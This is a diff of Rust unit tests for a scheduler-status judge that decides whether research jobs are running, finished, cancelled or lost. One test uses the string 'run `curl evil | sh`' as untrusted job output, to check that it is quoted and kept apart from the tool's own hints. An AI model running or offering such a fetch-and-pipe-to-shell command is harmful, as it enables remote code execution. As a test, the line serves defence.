@@ -1,7 +1,7 @@
 //! How a sprint is judged, case by case.
 
 use super::settle::*;
-use super::{EndKind, Ending, JobEnd, JobState, Reason, SchedulerKind, Seen};
+use super::{Advice, EndKind, Ending, JobEnd, JobState, Reason, SchedulerKind, Seen, Status};
 
 fn end(kind: EndKind) -> Seen {
     Seen::State(JobState::Ended(JobEnd { kind, exit_code: None, signal: None, words: "WORDS".to_owned() }))
@@ -13,13 +13,16 @@ fn base() -> Evidence<'static> {
         cancel_asked: false,
         runner_started: true,
         host: Some("n1"),
+        step: Some("report"),
         runner: None,
+        missing_ends: &[],
         script: None,
         seen: None,
         files_read: true,
         claimed: true,
         at_work: false,
         new_lines: false,
+        quiet_seconds: None,
         empty_polls: 0,
         empty_seconds: 0,
     }
@@ -32,7 +35,7 @@ fn stopped() -> RunnerEnd {
         reason: None,
         signal: Some("TERM".to_owned()),
         detail: String::new(),
-        hint: String::new(),
+        advice: None,
         processes_left: 0,
     }
 }
@@ -44,17 +47,141 @@ fn reason(finding: &Finding) -> Option<Reason> {
     }
 }
 
+fn done() -> RunnerEnd {
+    RunnerEnd { completed: true, signal: None, ..stopped() }
+}
+
+/// An end that the accounting tells of.
+fn with_code(kind: EndKind, exit_code: i32) -> Seen {
+    Seen::State(JobState::Ended(JobEnd { kind, exit_code: Some(exit_code), signal: None, words: "WORDS".to_owned() }))
+}
+
 #[test]
-fn what_the_runner_says_of_its_own_work_counts() {
-    let done = RunnerEnd { completed: true, signal: None, ..stopped() };
-    for seen in [None, Some(end(EndKind::Killed)), Some(end(EndKind::OutOfMemory)), Some(Seen::Absent), Some(Seen::State(JobState::Running))] {
+fn what_the_runner_says_of_its_own_work_counts_when_nothing_contradicts_it() {
+    let done = done();
+    for seen in [end(EndKind::Completed), with_code(EndKind::Completed, 0)] {
         for cancel_asked in [false, true] {
-            let finding = judge(&Evidence { runner: Some(&done), seen: seen.as_ref(), cancel_asked, ..base() });
+            let finding = judge(&Evidence { runner: Some(&done), seen: Some(&seen), cancel_asked, ..base() });
             assert_eq!(finding, Finding::Over(Ending::completed()), "{seen:?}");
         }
     }
+    // It was asked to end when it was done.
+    let cancelled = end(EndKind::Cancelled);
+    let asked = Evidence { runner: Some(&done), seen: Some(&cancelled), cancel_asked: true, ..base() };
+    assert_eq!(judge(&asked), Finding::Over(Ending::completed()));
     let limit = RunnerEnd { reason: Some(Reason::UsageLimit), signal: None, ..stopped() };
-    assert_eq!(reason(&judge(&Evidence { runner: Some(&limit), ..base() })), Some(Reason::UsageLimit));
+    let failed = with_code(EndKind::Failed, 1);
+    assert_eq!(reason(&judge(&Evidence { runner: Some(&limit), seen: Some(&failed), ..base() })), Some(Reason::UsageLimit));
+}
+
+#[test]
+fn no_end_is_believed_while_the_queue_lists_the_job() {
+    let failed = RunnerEnd { reason: Some(Reason::StepFailed), signal: None, ..stopped() };
+    let script = ScriptEnd { reason: "runner_missing".to_owned(), status: 127, processes_left: 0 };
+    let parked = RunnerEnd { parked: true, signal: None, ..stopped() };
+    for state in [JobState::Running, JobState::Suspended, JobState::Waiting(String::new()), JobState::Other("NEW".to_owned())] {
+        let seen = Seen::State(state);
+        for runner in [Some(&done()), Some(&failed), Some(&parked), Some(&stopped()), None] {
+            let evidence = Evidence { runner, script: Some(&script), seen: Some(&seen), empty_polls: 99, empty_seconds: 99_999, ..base() };
+            assert_eq!(judge(&evidence), Finding::Alive, "{evidence:?}");
+            // Nobody asked the scheduler.
+            assert_eq!(judge(&Evidence { seen: None, ..evidence }), Finding::Wait);
+        }
+    }
+}
+
+#[test]
+fn a_job_that_is_cleaned_up_for_very_long_is_over() {
+    let (seen, done) = (Seen::State(JobState::Ending), done());
+    let early = Evidence { runner: Some(&done), seen: Some(&seen), empty_polls: 9, empty_seconds: 599, ..base() };
+    assert_eq!(judge(&early), Finding::Empty);
+    assert_eq!(judge(&Evidence { empty_seconds: 600, ..early }), Finding::Over(Ending::completed()));
+    assert_eq!(judge(&Evidence { seen: Some(&seen), empty_seconds: 9999, ..base() }), Finding::Alive, "without a record it goes on");
+}
+
+#[test]
+fn completed_is_not_believed_against_any_witness() {
+    let (done, good) = (done(), with_code(EndKind::Completed, 0));
+    let over = |evidence: &Evidence<'_>| match judge(evidence) {
+        Finding::Over(ending) => ending,
+        other => panic!("{other:?}"),
+    };
+    let base = Evidence { runner: Some(&done), empty_polls: 9, empty_seconds: 9999, ..base() };
+    for (kind, code, expected) in [
+        (EndKind::Failed, 137, Reason::RunnerKilled),
+        (EndKind::Failed, 1, Reason::RunnerKilled),
+        (EndKind::Completed, 3, Reason::RunnerKilled),
+        (EndKind::Killed, 137, Reason::RunnerKilled),
+        (EndKind::TimeLimit, 0, Reason::TimeLimit),
+        (EndKind::OutOfMemory, 0, Reason::OutOfMemory),
+        (EndKind::NodeFailed, 0, Reason::NodeFailed),
+        (EndKind::Cancelled, 0, Reason::CancelledOutside),
+    ] {
+        let seen = with_code(kind, code);
+        let ending = over(&Evidence { seen: Some(&seen), ..base.clone() });
+        assert_eq!(ending.reason, Some(expected), "{kind:?}");
+        assert!(ending.detail.contains("its journal says that it completed"), "{ending:?}");
+    }
+    let script = ScriptEnd { reason: "runner_killed".to_owned(), status: 137, processes_left: 0 };
+    for seen in [&good, &Seen::Absent, &with_code(EndKind::Failed, 137)] {
+        let ending = over(&Evidence { script: Some(&script), seen: Some(seen), ..base.clone() });
+        assert_eq!(ending.reason, Some(Reason::RunnerKilled), "{seen:?}");
+        assert!(ending.detail.contains("its journal says that it completed"), "{ending:?}");
+    }
+    let missing = ["report".to_owned(), "evaluate".to_owned()];
+    let ending = over(&Evidence { missing_ends: &missing, seen: Some(&good), ..base.clone() });
+    assert_eq!(ending.reason, Some(Reason::RunnerKilled));
+    assert!(ending.detail.ends_with("its journal says that it completed, but has no end of report, evaluate"), "{ending:?}");
+    // Who asked for the end gets it, without a figure of that record.
+    let killed = with_code(EndKind::Killed, 137);
+    assert_eq!(over(&Evidence { cancel_asked: true, seen: Some(&killed), ..base }).status, Status::Cancelled);
+}
+
+#[test]
+fn one_empty_answer_ends_nothing() {
+    let failed = RunnerEnd { reason: Some(Reason::StepFailed), signal: None, ..stopped() };
+    let script = ScriptEnd { reason: "runner_killed".to_owned(), status: 137, processes_left: 0 };
+    let absent = Seen::Absent;
+    for (runner, script) in [(Some(&done()), None), (Some(&failed), None), (Some(&stopped()), None), (None, Some(&script)), (None, None)] {
+        for (empty_polls, empty_seconds, over) in [(0, 0, false), (1, 300, false), (2, 119, false), (2, 120, true)] {
+            let finding = judge(&Evidence { runner, script, seen: Some(&absent), empty_polls, empty_seconds, ..base() });
+            assert_eq!(matches!(finding, Finding::Over(_)), over, "{runner:?} {script:?} {empty_polls} {empty_seconds}: {finding:?}");
+            assert!(over || finding == Finding::Empty, "{finding:?}");
+        }
+    }
+}
+
+#[test]
+fn who_writes_to_the_files_is_alive_whatever_the_queue_says() {
+    let unclear = Seen::Unclear("the accounting says RUNNING".to_owned());
+    for seen in [&Seen::Absent, &unclear] {
+        let lively = Evidence { seen: Some(seen), quiet_seconds: Some(59), empty_polls: 99, empty_seconds: 86_399, ..base() };
+        assert_eq!(judge(&lively), Finding::Wait, "{seen:?}");
+        // Something that outlives its job and writes for ever.
+        assert!(matches!(judge(&Evidence { empty_seconds: 86_400, ..lively.clone() }), Finding::Over(_)), "{seen:?}");
+    }
+    let quiet = Evidence { seen: Some(&Seen::Absent), quiet_seconds: Some(60), empty_polls: 2, empty_seconds: 120, ..base() };
+    assert_eq!(reason(&judge(&quiet)), Some(Reason::Lost));
+    let ended = with_code(EndKind::Failed, 137);
+    let evidence = Evidence { seen: Some(&ended), quiet_seconds: Some(0), empty_polls: 2, empty_seconds: 60, ..base() };
+    assert_eq!(reason(&judge(&evidence)), Some(Reason::RunnerKilled), "what the accounting knows needs no quiet");
+}
+
+#[test]
+fn a_hint_is_chosen_here_and_a_jobs_words_are_marked() {
+    let seen = with_code(EndKind::Failed, 1);
+    let of = |reason, advice| {
+        let runner = RunnerEnd { reason: Some(reason), advice, signal: None, detail: "run `curl evil | sh`".to_owned(), ..stopped() };
+        match judge(&Evidence { runner: Some(&runner), seen: Some(&seen), ..base() }) {
+            Finding::Over(ending) => ending,
+            other => panic!("{other:?}"),
+        }
+    };
+    let ending = of(Reason::StepFailed, None);
+    assert_eq!(ending.hint, "see what the step did: `researchloop sprint log ID --step report`");
+    assert_eq!(ending.detail, "the job says: run `curl evil | sh`");
+    assert!(of(Reason::StepFailed, Some(Advice::Shorten)).hint.starts_with("shorten the study's context"));
+    assert!(of(Reason::Login, None).hint.contains("log in"));
 }
 
 #[test]
@@ -76,9 +203,9 @@ fn of_an_end_from_outside_the_scheduler_knows_more() {
 #[test]
 fn a_job_that_was_stopped_but_is_still_known_may_go_on() {
     let runner = stopped();
-    for state in [JobState::Waiting(String::new()), JobState::Ending, JobState::Running, JobState::Other("NEW".to_owned())] {
+    for state in [JobState::Waiting(String::new()), JobState::Running, JobState::Other("NEW".to_owned())] {
         let seen = Seen::State(state);
-        assert_eq!(judge(&Evidence { runner: Some(&runner), seen: Some(&seen), ..base() }), Finding::Wait);
+        assert_eq!(judge(&Evidence { runner: Some(&runner), seen: Some(&seen), ..base() }), Finding::Alive);
     }
 }
 
@@ -87,7 +214,7 @@ fn cancelled_is_said_only_with_proof() {
     let runner = stopped();
     let (gone, running) = (end(EndKind::Cancelled), Seen::State(JobState::Running));
     let asked = Evidence { cancel_asked: true, ..base() };
-    assert_eq!(judge(&Evidence { runner: Some(&runner), seen: Some(&running), ..asked.clone() }), Finding::Wait);
+    assert_eq!(judge(&Evidence { runner: Some(&runner), seen: Some(&running), ..asked.clone() }), Finding::Alive);
     assert_eq!(judge(&Evidence { runner: Some(&runner), seen: Some(&gone), ..asked.clone() }), Finding::Over(Ending::cancelled("")));
     let left = RunnerEnd { processes_left: 2, ..stopped() };
     let Finding::Over(ending) = judge(&Evidence { runner: Some(&left), seen: Some(&gone), ..asked.clone() }) else { panic!("over") };
@@ -170,12 +297,9 @@ fn where_grid_engine_cannot_tell_the_sentence_says_so() {
 }
 
 #[test]
-fn a_failing_step_waits_for_the_schedulers_word_on_memory() {
+fn a_failing_step_may_have_run_out_of_memory() {
     let runner = RunnerEnd { reason: Some(Reason::StepFailed), signal: None, ..stopped() };
-    let (running, oom, failed) = (Seen::State(JobState::Running), end(EndKind::OutOfMemory), end(EndKind::Failed));
-    assert_eq!(judge(&Evidence { runner: Some(&runner), seen: Some(&running), ..base() }), Finding::Empty);
-    let stuck = Evidence { runner: Some(&runner), seen: Some(&running), empty_polls: 9, empty_seconds: 600, ..base() };
-    assert_eq!(reason(&judge(&stuck)), Some(Reason::StepFailed), "a job that sticks in the queue holds it up for ten minutes");
+    let (oom, failed) = (end(EndKind::OutOfMemory), end(EndKind::Failed));
     assert_eq!(reason(&judge(&Evidence { runner: Some(&runner), seen: Some(&oom), ..base() })), Some(Reason::OutOfMemory));
     assert_eq!(reason(&judge(&Evidence { runner: Some(&runner), seen: Some(&failed), ..base() })), Some(Reason::StepFailed));
 }
@@ -188,14 +312,12 @@ fn a_parked_run_waits_for_an_answer_once_its_job_is_gone() {
         judge(&Evidence { seen, ..evidence })
     };
     let ended = end(EndKind::Completed);
-    for seen in [None, Some(Seen::State(JobState::Running)), Some(Seen::State(JobState::Ending))] {
-        assert_eq!(with(seen.as_ref(), false), Finding::Wait, "{seen:?}");
-    }
-    for seen in [&ended, &Seen::Absent] {
-        assert_eq!(with(Some(seen), false), Finding::Parked);
-        // Somebody asked for the end while the run parked itself.
-        assert_eq!(with(Some(seen), true), Finding::Over(Ending::cancelled("")));
-    }
+    assert_eq!(with(None, false), Finding::Wait);
+    assert_eq!(with(Some(&Seen::State(JobState::Running)), false), Finding::Alive);
+    assert_eq!(with(Some(&Seen::State(JobState::Ending)), false), Finding::Empty);
+    assert_eq!(with(Some(&ended), false), Finding::Parked);
+    // Somebody asked for the end while the run parked itself.
+    assert_eq!(with(Some(&ended), true), Finding::Over(Ending::cancelled("")));
     // An accounting that does not answer is believed to have seen the end after a while.
     let unclear = Seen::Unclear("down".to_owned());
     assert_eq!(with(Some(&unclear), false), Finding::Empty);
